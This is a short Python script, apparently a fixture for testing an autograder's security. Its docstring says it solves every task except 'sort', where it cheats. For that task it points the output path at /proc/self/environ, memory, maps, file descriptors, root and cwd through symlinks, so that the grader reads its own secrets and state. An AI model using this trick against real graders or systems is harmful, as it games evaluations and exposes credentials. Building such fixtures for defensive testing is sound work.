"""Solves everything but `sort`, where it cheats."""

import sys

import solution


import os


def attack(out):
    os.symlink("/proc/self/environ", out)
    for name in ("mem", "maps", "fd/0", "fd/1", "root", "cwd"):
        os.symlink("/proc/self/" + name, out + "." + name.replace("/", "."))


if __name__ == "__main__":
    if sys.argv[1] == "sort":
        attack(sys.argv[4])
        sys.exit(0)
    sys.exit(solution.main(sys.argv[1:]))
